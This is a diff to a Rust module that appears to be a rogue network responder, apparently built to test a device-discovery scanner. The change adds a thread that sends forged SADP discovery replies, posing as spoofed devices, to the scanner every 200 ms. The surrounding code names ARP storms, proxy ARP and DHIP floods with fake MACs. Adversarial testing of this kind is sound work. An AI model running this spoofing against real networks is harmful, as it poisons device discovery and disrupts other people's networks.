@@ -23,7 +23,7 @@ pub enum Attack {
     Matches,
     /// DHIP by the thousand, with made-up MACs.
     Flood,
-    /// Answers SADP in the name of [`SLANDERED`], and knows the question that it answers.
+    /// Answers SADP in the name of [`SLANDERED`]: questions to everybody with their ids, and what it did not see without.
     Forge,
     /// Answers ARP for every address that there is.
     Proxy,
@@ -80,6 +80,10 @@ pub fn attack(word: &Path, scanner: [u8; 6]) {
     if attacks.contains(&Attack::ArpStorm) {
         let wire = wire.try_clone().expect("a second handle");
         std::thread::spawn(move || storm(&wire));
+    }
+    if attacks.contains(&Attack::Forge) {
+        let wire = wire.try_clone().expect("a second handle");
+        std::thread::spawn(move || insist(&wire, scanner));
     }
     Rogue {
         wire,
@@ -235,6 +239,17 @@ fn notify(nth: u16) -> Vec<u8> {
         .replace("{vendor}", "General")
         .replace("{firmware}", "2.800.0000000.13.R");
     replies::dhip_frame(json.as_bytes())
+}
+
+/// The same slander over and over to the port that everybody knows, also when its victims have been asked themselves.
+fn insist(wire: &socket2::Socket, scanner: [u8; 6]) {
+    loop {
+        for victim in SLANDERED {
+            let said = slander(victim, "");
+            let _ = wire.send(&datagram(scanner, literal(victim), (SADP, SADP), said.as_bytes()));
+        }
+        std::thread::sleep(Duration::from_millis(200));
+    }
 }
 
 /// ARP about others, to everybody: one in twenty about an address in scope that nobody has.
